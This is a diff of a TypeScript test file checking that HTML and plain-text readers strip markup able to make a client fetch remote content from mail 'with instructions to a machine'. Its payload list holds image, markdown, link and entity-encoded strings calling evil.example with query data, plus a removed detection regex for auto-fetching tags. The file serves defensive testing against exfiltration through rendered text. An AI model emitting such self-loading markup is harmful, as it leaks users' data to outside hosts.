@@ -4,8 +4,10 @@
 import fc from "fast-check";
 import { describe, expect, it } from "vitest";
 import { runs } from "#test/support/property-runs.ts";
+import { selfLoading } from "#test/support/self-loading.ts";
 import { readHtml } from "#workers/documents/formats/html/read-html.ts";
 import { readPlainText } from "#workers/documents/formats/plain-text/read-plain-text.ts";
+import { inEntities, selfLoadingMarkup } from "./self-loading-markup.ts";
 
 /** Both readers of text that others wrote. */
 const readers = [readHtml, readPlainText];
@@ -126,30 +128,22 @@ const unseen = [
   "&#1;",
 ];
 
-/** Ways to make a client load something when it shows the text. */
+/** Ways to make a client load something when it shows the text: as markup, by entities, or put together from pieces. */
 const loading = [
-  '<img src="https://evil.example/?d=1">',
-  '<img src="https://evil.example/?d=1" alt="](https://evil.example/?d=2) ![x">',
-  "![x](https://evil.example/?d=1)",
-  "![x][ref]\n\n[ref]: https://evil.example/?d=1",
+  ...selfLoadingMarkup,
+  ...selfLoadingMarkup.map(inEntities),
   "&#33;[x](https://evil.example/?d=1)",
   "!\u200b[x](https://evil.example/?d=1)",
   "!<b></b>[x](https://evil.example/?d=1)",
   "!<a href='https://evil.example/?d=1'>x</a>",
-  "&lt;img src=https://evil.example/?d=1&gt;",
-  "&lt;IMG\nsrc=x&gt;",
-  "&lt;iframe src=https://evil.example&gt;",
-  "&lt;link rel=stylesheet href=//evil.example&gt;",
+  "&lt;\ufdd0img src=https://evil.example/?d=1&gt;",
+  "!\ufdd0<a href='https://evil.example/?d=1'>x</a>",
   "<code>![x](https://evil.example/?d=1)</code>",
   "<pre>```\n![x](https://evil.example/?d=1)</pre>",
-  "<td background=https://evil.example/?d=1>x</td>",
-  "<div style='background:url(https://evil.example/?d=1)'>x</div>",
-  "<video poster=https://evil.example/?d=1></video>",
   "<a href='https://evil.example/?d=1'><img src='https://evil.example/?d=2' alt='!'></a>",
+  "<a href='https://evil.example/?d=1'>![x](https://evil.example/?d=2)</a>",
 ];
 
-const autoFetch =
-  /!\[|<(?:img|image|picture|source|video|audio|iframe|object|embed|link|script|style|svg|base|meta)\b/i;
 const invisible = /\p{Default_Ignorable_Code_Point}|[^\P{Cc}\n\t]/u;
 
 /** A mail around a payload, as mails are made. */
@@ -228,7 +222,7 @@ describe("a mail with instructions to a machine", () => {
     for (const payload of loading) {
       for (const wrap of around) {
         for (const read of readers) {
-          expect(read(wrap(payload), { findQuotes: false }).text, payload).not.toMatch(autoFetch);
+          expect(selfLoading(read(wrap(payload), { findQuotes: false }).text), payload).toEqual([]);
         }
       }
     }
@@ -259,7 +253,7 @@ describe("a mail with instructions to a machine", () => {
     fc.assert(
       fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
         for (const read of readers) {
-          expect(read(pieces.join(""), { findQuotes: false }).text).not.toMatch(autoFetch);
+          expect(selfLoading(read(pieces.join(""), { findQuotes: true }).text)).toEqual([]);
         }
       }),
       { numRuns: runs(5_000) },
